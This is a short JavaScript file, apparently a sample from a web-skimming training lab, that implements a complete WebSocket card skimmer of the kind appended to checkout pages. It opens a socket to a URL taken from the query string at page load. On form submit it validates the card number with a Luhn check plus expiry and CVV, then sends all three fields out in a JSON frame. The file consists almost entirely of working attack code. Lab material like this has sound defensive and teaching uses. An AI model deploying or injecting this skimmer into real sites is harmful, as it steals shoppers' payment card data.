// A checkout script with a WebSocket skimmer appended, in the shape of the
// websocket-exfil variant of pci-tamper-protect/e-skimming-labs (the
// Kritec pattern): a socket opened at load, and on submit, if the card
// passes a Luhn check with a plausible expiry and code, the fields go out
// in a frame.
(function () {
  var sink = new URLSearchParams(location.search).get('sink');
  var ws = new WebSocket(sink);
  var queue = [];
  ws.onopen = function () { while (queue.length) ws.send(queue.shift()); };
  var val = function (id) { return document.getElementById(id).value; };
  var luhn = function (n) {
    var d = n.replace(/\D/g, ''), sum = 0;
    for (var i = 0; i < d.length; i++) {
      var x = +d[d.length - 1 - i];
      if (i % 2) { x *= 2; if (x > 9) x -= 9; }
      sum += x;
    }
    return d.length >= 15 && sum % 10 === 0;
  };
  var future = function (e) {
    var m = /^(\d\d)\/(\d\d)$/.exec(e);
    return m && +m[1] >= 1 && +m[1] <= 12 && 2000 + +m[2] >= new Date().getFullYear();
  };
  document.getElementById('payment-form').addEventListener('submit', function () {
    if (!luhn(val('card-number')) || !future(val('expiry')) || !/^\d{3,4}$/.test(val('cvv'))) return;
    var frame = JSON.stringify({type: 'payment_data', data: {n: val('card-number'), e: val('expiry'), c: val('cvv')}});
    if (ws.readyState === 1) ws.send(frame); else queue.push(frame);
  });
})();
